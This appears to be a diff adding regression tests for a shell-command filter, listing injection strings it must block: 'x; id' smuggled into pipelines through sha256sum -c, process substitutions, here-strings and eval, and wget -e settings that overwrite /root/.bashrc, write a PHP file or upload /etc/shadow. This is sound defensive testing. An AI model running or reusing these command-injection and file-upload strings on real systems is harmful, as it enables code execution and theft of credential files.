@@ -240,6 +240,94 @@ static void argv_wget_execute_is_a_wgetrc_command(void **state)
 	}
 }
 
+/* review14: a hash stage's --check prints each line's file name back
+ * ("NAME: FAILED open or read"), so the input's bytes reach the shell:
+ * echo '0...0  x;touch /tmp/r14-pwned-2;' | sha256sum -c 2>/dev/null | sh
+ * ran touch in bash 5.2.15 and dash 0.5.12 (md5sum -c and
+ * sha256sum --check --quiet alike); blocked on main e980286, allowed on
+ * h-shell19 674c16c. */
+static void a_hash_stage_that_checks_prints_the_input_back(void **state)
+{
+	static const char *const blocks[][3] = {
+	    {"echo '0000000000000000000000000000000000000000000000000000000000000000  ",
+	     "x;id;", "' | sha256sum -c 2>/dev/null | sh"},
+	    {"echo '00000000000000000000000000000000  ", "x;id;", "' | md5sum -c 2>/dev/null | sh"},
+	    {"echo '0000000000000000000000000000000000000000000000000000000000000000  ",
+	     "x;id;", "' | sha256sum --check --quiet 2>/dev/null | sh"},
+	};
+	static const char *const passes[][3] = {
+	    {"echo '", "x; id", "' | sha256sum | sh -c 'cat > sum.txt'"},
+	};
+
+	(void)state;
+	judge(blocks, sizeof blocks / sizeof blocks[0], passes, sizeof passes / sizeof passes[0]);
+}
+
+/* review14: wget -e's wgetrc commands that name a file (wget drops '_'
+ * and '-' and case: outputdocument, output_document, OutputDocument;
+ * post_file uploads a file): the input "-e output_document=F" in
+ * wget INPUT http://host/p made wget 1.21.3 write the download to F
+ * (proved with a local http server); main e980286 blocked these as
+ * cmd.option, h-shell19 674c16c allows them (only robots=off was meant
+ * to pass). */
+static void wget_e_settings_that_name_a_file_still_fire_in_a_line(void **state)
+{
+	static const char *const blocks[][3] = {
+	    {"wget ", "-e output_document=/root/.bashrc", " http://x/"},
+	    {"wget ", "-e outputdocument=/root/.bashrc", " http://x/"},
+	    {"wget ", "-e logfile=/var/www/x.php", " http://x/"},
+	    {"wget ", "-e post_file=/etc/shadow", " http://x/"},
+	    {"wget ", "-e append_output=/root/.bashrc", " http://x/"},
+	};
+	static const char *const passes[][3] = {
+	    {"wget ", "-e robots=off", " http://x/"},
+	};
+
+	(void)state;
+	judge(blocks, sizeof blocks / sizeof blocks[0], passes, sizeof passes / sizeof passes[0]);
+}
+
+/* review14: a process substitution redirected into a shell's standard
+ * input, and a here-string read as the script file /dev/stdin: each ran
+ * touch in bash 5.2.15 (bash < <(echo 'x; touch F')); the benign twins
+ * (diff < <(...), bash run.sh <<< ...) run nothing the input brought. */
+static void a_substitution_or_here_string_redirected_into_a_shell(void **state)
+{
+	static const char *const blocks[][3] = {
+	    {"bash < <(echo '", "x; id", "')"},
+	    {"sh < <(echo '", "x; id", "')"},
+	    {"ssh -T host < <(echo '", "x; id", "')"},
+	    {"bash /dev/stdin <<< '", "x; id", "'"},
+	    {"bash -c \"$(cat <<< '", "x; id", "')\""},
+	    {"bash <(cat <<< '", "x; id", "')"},
+	};
+	static const char *const passes[][3] = {
+	    {"diff < <(echo '", "x; id", "') old.txt"},
+	    {"bash run.sh <<< '", "x; id", "'"},
+	};
+
+	(void)state;
+	judge(blocks, sizeof blocks / sizeof blocks[0], passes, sizeof passes / sizeof passes[0]);
+}
+
+/* review14: other copies of a value then run: printf -v, read with IFS=
+ * in front, read from a here-document (each ran touch in bash 5.2.15;
+ * the here-document one in dash too). */
+static void a_value_copied_by_printf_or_read_with_ifs_then_run(void **state)
+{
+	static const char *const blocks[][3] = {
+	    {"x='", "x; id", "'; printf -v y %s \"$x\"; eval \"$y\""},
+	    {"IFS= read -r x <<< '", "x; id", "'; eval \"$x\""},
+	    {"read -r x <<'E'\n", "x; id", "\nE\neval \"$x\""},
+	};
+	static const char *const passes[][3] = {
+	    {"IFS= read -r x <<< '", "x; id", "'; echo \"$x\" > out.txt"},
+	};
+
+	(void)state;
+	judge(blocks, sizeof blocks / sizeof blocks[0], passes, sizeof passes / sizeof passes[0]);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -249,6 +337,10 @@ int main(void)
 	    cmocka_unit_test(a_value_copied_or_read_then_run),
 	    cmocka_unit_test(counts_hashes_and_wgetrc_settings_run_nothing),
 	    cmocka_unit_test(argv_wget_execute_is_a_wgetrc_command),
+	    cmocka_unit_test(a_hash_stage_that_checks_prints_the_input_back),
+	    cmocka_unit_test(wget_e_settings_that_name_a_file_still_fire_in_a_line),
+	    cmocka_unit_test(a_substitution_or_here_string_redirected_into_a_shell),
+	    cmocka_unit_test(a_value_copied_by_printf_or_read_with_ifs_then_run),
 	};
 	return cmocka_run_group_tests(tests, group_setup, group_teardown);
 }
